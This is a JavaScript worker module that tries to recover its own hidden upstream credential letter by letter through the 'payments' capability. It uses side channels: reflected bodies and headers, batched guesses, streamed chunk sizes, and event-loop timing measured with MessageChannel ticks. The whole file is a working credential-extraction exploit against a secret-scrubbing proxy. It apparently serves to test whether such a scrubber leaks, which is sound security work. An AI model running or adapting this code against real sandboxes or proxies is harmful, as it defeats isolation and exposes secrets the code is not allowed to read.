// A function that tries to learn its own credential from what comes back of its calls, letter by letter.
//
// A request's JSON body says how: { way, path, known, alphabet, length }. `path` is a path of the capability
// `payments` whose upstream returns the text that it is sent; `known` is how the credential begins. The
// answer is { recovered, calls }. Each step sends `known` and one more letter, for every letter, and
// compares what it observes: the letter that behaves like no other is taken for the next one. A step
// in which no letter, or more than one, stands out ends the attempt. On a busy machine `time` also takes
// letters that stand out by chance: only those that are right count.

const FILLER = ".".repeat(4096);
// Rounds of a timed guess; the median counts.
const TIMED_ROUNDS = 5;
// Repetitions of a timed guess in one body: what a scrubber spends on one must add up.
const TIMED_REPEATS = 4096;

let calls;

function call(env, path, init) {
  calls++;
  return env.payments.fetch(path, { method: "POST", ...init });
}

// What is left of an answer when the guess is taken out: the same for all guesses that are left alone.
const without = (text, guess) => text.replaceAll(guess, "GUESS");

// Counts turns of the event loop: the finest clock that a function has while a call is under way.
function ticks() {
  const { port1, port2 } = new MessageChannel();
  let count = 0;
  port1.onmessage = () => {
    count++;
    port2.postMessage(0);
  };
  port2.postMessage(0);
  return () => {
    port1.close();
    port2.close();
    return count;
  };
}

const median = (numbers) => numbers.sort((a, b) => a - b)[numbers.length >> 1];

// Way -> what the function sees of each guess, in order.
const ways = {
  async body(env, path, guesses) {
    const seen = [];
    for (const guess of guesses) {
      const answer = await call(env, path, { body: guess });
      seen.push(`${answer.status} ${without(await answer.text(), guess)}`);
    }
    return seen;
  },
  async many(env, path, guesses) {
    const answer = await call(env, path, { body: guesses.join("\n") });
    const lines = (await answer.text()).split("\n").slice(-guesses.length);
    return guesses.map((guess, i) => without(lines[i] ?? "", guess));
  },
  async header(env, path, guesses) {
    const seen = [];
    for (const guess of guesses) {
      const headers = { origin: guess, "x-request-id": guess };
      const answer = await call(env, path, { headers });
      const fields = JSON.stringify([...answer.headers]);
      seen.push(without(`${answer.status} ${fields} ${await answer.text()}`, guess));
    }
    return seen;
  },
  async pieces(env, path, guesses) {
    const seen = [];
    for (const guess of guesses) {
      const body = new ReadableStream({
        async start(controller) {
          controller.enqueue(new TextEncoder().encode(FILLER + guess));
          await new Promise((go) => setTimeout(go, 20));
          controller.enqueue(new TextEncoder().encode(FILLER));
          controller.close();
        },
      });
      const sizes = [];
      for await (const piece of (await call(env, path, { body, duplex: "half" })).body) {
        sizes.push(piece.length);
      }
      seen.push(sizes.join());
    }
    return seen;
  },
  async time(env, path, guesses) {
    const medians = [];
    for (const guess of guesses) {
      const counts = [];
      for (let round = 0; round < TIMED_ROUNDS; round++) {
        const count = ticks();
        const answer = await call(env, path, { body: `${guess} `.repeat(TIMED_REPEATS) });
        await answer.arrayBuffer();
        counts.push(count());
      }
      medians.push(median(counts));
    }
    // Stands out: further from the median than twice what all but the furthest are.
    const middle = median([...medians]);
    const distances = medians.map((value) => Math.abs(value - middle));
    const usual = distances.toSorted((a, b) => a - b).at(-2);
    return distances.map((distance) => (distance > 2 * usual ? "slow" : "usual"));
  },
};

// The guess that behaves like no other while all others behave alike.
function outlier(guesses, seen) {
  const alone = guesses.filter((_, i) => seen.indexOf(seen[i]) === seen.lastIndexOf(seen[i]));
  return alone.length === 1 && new Set(seen).size === 2 ? alone[0] : undefined;
}

export default {
  async fetch(request, env) {
    const { way, path, known, alphabet, length } = await request.json();
    calls = 0;
    let recovered = known;
    while (recovered.length < length) {
      const guesses = [...alphabet].map((letter) => recovered + letter);
      const next = outlier(guesses, await ways[way](env, path, guesses));
      if (next === undefined) break;
      recovered = next;
    }
    return Response.json({ recovered, calls });
  },
};
